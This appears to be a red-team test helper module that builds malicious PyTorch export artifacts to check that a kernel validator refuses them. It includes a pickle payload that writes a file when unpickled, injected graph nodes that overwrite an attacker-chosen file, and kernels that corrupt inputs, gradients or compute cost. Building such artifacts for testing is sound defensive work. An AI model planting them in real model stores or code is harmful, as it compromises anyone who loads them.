"""Hostile kernel artifacts, crafted for real: the red-team half of the artifact validator.

Each builder takes a genuine artifact and returns bytes that would do harm if torch loaded and
ran them (`tests/test_artifact_security.py` shows that for the ones where it is cheap). The
validator must refuse every one; the reliability benchmark (`experiments/bench_faults.py`) puts
them in a kernel store under a genuine recipe, as a poisoned shared store would. The modules at
the end pass the static checks and misbehave later: at run time (a NaN gradient, a float64 or
huge delta: runtime faults), by their cost (refused by the loader's cost bound), or inside
torch.export.load (refused in one line); `tests/test_kernel_cost.py` uses the last three.
"""

from __future__ import annotations

import io
import json
import pathlib
import pickle
import zipfile

import torch
import torch.nn.functional as F
from torch import nn

MODEL_JSON = "archive/models/model.json"
SAMPLE_INPUTS = "archive/data/sample_inputs/model.pt"


def members(archive: bytes) -> dict[str, bytes]:
    """name -> bytes of a zip, read with Python's zipfile (the crafting side needs no rigour)."""
    z = zipfile.ZipFile(io.BytesIO(archive))
    return {name: z.read(name) for name in z.namelist()}


def plain_zip(content: dict[str, bytes]) -> bytes:
    """A stored zip of `content`, in order, as Python's zipfile writes it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        for name, data in content.items():
            archive.writestr(name, data)
    return out.getvalue()


class WritesFile:
    """Unpickling this creates `path`: proof that a pickle ran."""

    def __init__(self, path: str | pathlib.Path):
        self.path = str(path)

    def __reduce__(self):
        return (open, (self.path, "w"))


def evil_sample_inputs(artifact: bytes, marker: str | pathlib.Path) -> bytes:
    """The artifact's sample-input archive with its pickle replaced by one that creates
    `marker` when unpickled (torch.export.load falls back to weights_only=False on it)."""
    inner = members(members(artifact)[SAMPLE_INPUTS])
    root = next(iter(inner)).split("/")[0]
    inner[f"{root}/data.pkl"] = pickle.dumps(WritesFile(marker), protocol=2)
    return plain_zip(inner)


def case_collision(artifact: bytes, marker: str | pathlib.Path) -> bytes:
    """An extra `MODEL.pt` beside `model.pt`: a case-insensitive reader may load the payload."""
    content = members(artifact)
    content["archive/data/sample_inputs/MODEL.pt"] = evil_sample_inputs(artifact, marker)
    return plain_zip(content)


def graph_node(target: str, inputs: list, out: str) -> dict:
    """One node of a serialized graph (model.json), calling `target`, output tensor `out`."""
    return {
        "target": target,
        "inputs": inputs,
        "outputs": [{"as_tensor": {"name": out}}],
        "metadata": {},
        "is_hop_single_tensor_return": None,
        "name": out,
    }


def file_writer(artifact: bytes, path: str | pathlib.Path) -> bytes:
    """The graph first maps `path` (aten.from_file, shared) and fills it with b"A" (fill_): a
    write to an attacker-chosen file the first time the kernel runs."""
    content = members(artifact)
    doc = json.loads(content[MODEL_JSON])
    graph = doc["graph_module"]["graph"]
    byte = {
        "dtype": 1,
        "sizes": [{"as_int": 6}],
        "requires_grad": False,
        "device": {"type": "cpu", "index": None},
        "strides": [{"as_int": 1}],
        "storage_offset": {"as_int": 0},
        "layout": 7,
    }
    graph["tensor_values"].update(mapped=byte, filled=dict(byte))

    graph["nodes"][:0] = [
        graph_node(
            "torch.ops.aten.from_file.default",
            [
                {"name": "filename", "arg": {"as_string": str(path)}, "kind": 1},
                {"name": "shared", "arg": {"as_bool": True}, "kind": 1},
                {"name": "size", "arg": {"as_int": 6}, "kind": 1},
                {"name": "dtype", "arg": {"as_scalar_type": 1}, "kind": 2},
            ],
            "mapped",
        ),
        graph_node(
            "torch.ops.aten.fill_.Scalar",
            [
                {"name": "self", "arg": {"as_tensor": {"name": "mapped"}}, "kind": 1},
                {"name": "value", "arg": {"as_int": 65}, "kind": 1},
            ],
            "filled",
        ),
    ]
    content[MODEL_JSON] = json.dumps(doc).encode()
    return plain_zip(content)


class _ZeroesItsInput(nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        x.mul_(0)  # the kernel's input shares storage with the host's activation
        return x * 1


def input_mutator(shape: tuple[int, ...]) -> bytes:
    """A real torch.export artifact whose kernel zeroes its input in place (aten.mul_)."""
    program = torch.export.export(
        _ZeroesItsInput(),
        (torch.zeros(2, *shape),),
        dynamic_shapes=({0: torch.export.Dim.DYNAMIC},),
    )
    buffer = io.BytesIO()
    torch.export.save(program, buffer)
    return buffer.getvalue()


# --- kernels that pass validation and misbehave at run time ---------------------------------------


class _NanBackward(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        return x * 0

    @staticmethod
    def backward(ctx, g):
        return torch.full_like(g, float("nan"))


class NanBackward(nn.Module):
    """Exact zero delta; NaN gradient into whatever it read (the host, once BLENDING)."""

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return _NanBackward.apply(x)


class Float64Delta(nn.Module):
    """Right shape, wrong dtype: `h + delta` would promote the host's activations."""

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return (x * 0).double()


class HugeDelta(nn.Sequential):
    """A blueprint's own layers (same tensor names and shapes), then an output of 3e38 in every
    entry: finite, but its sum overflows, and so does the host's next layer."""

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return super().forward(x) * 0 + 3e38


class QuadraticAttention(nn.Sequential):
    """residual_mlp's own layers (same tensor names and shapes) around self-attention over a
    sequence `repeats` times the hidden width (each hidden unit one token of 1 feature): only
    allowed ops, right shapes, zero delta at birth, and O((repeats * hidden)^2) work and memory
    per sample, so that a germination stalls the run."""

    def __init__(self, first: nn.Linear, activation: nn.Module, out: nn.Linear, repeats: int):
        super().__init__(first, activation, out)
        self.repeats = repeats

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        first, activation, out = self
        h = activation(first(x))
        tokens = torch.cat([h] * self.repeats, dim=1).reshape(x.shape[0], 1, -1, 1)
        mixed = F.scaled_dot_product_attention(tokens, tokens, tokens)
        return out(mixed.reshape(x.shape[0], self.repeats, -1).mean(dim=1))


def exported(module: nn.Module, shape: tuple[int, ...]) -> bytes:
    """The torch.export artifact of `module` for slot `shape`, as the compiler writes one."""
    program = torch.export.export(
        module, (torch.zeros(2, *shape),), dynamic_shapes=({0: torch.export.Dim.DYNAMIC},)
    )
    for node in program.graph.nodes:
        node.meta.pop("stack_trace", None)
    buffer = io.BytesIO()
    torch.export.save(program, buffer)
    return buffer.getvalue()


def schema_mismatch(artifact: bytes) -> bytes:
    """The artifact with a graph schema version torch does not read: every static check passes
    (the validator never reads that field) and torch.export.load raises."""
    content = members(artifact)
    doc = json.loads(content[MODEL_JSON])
    doc["schema_version"]["major"] += 100
    content[MODEL_JSON] = json.dumps(doc).encode()
    return plain_zip(content)
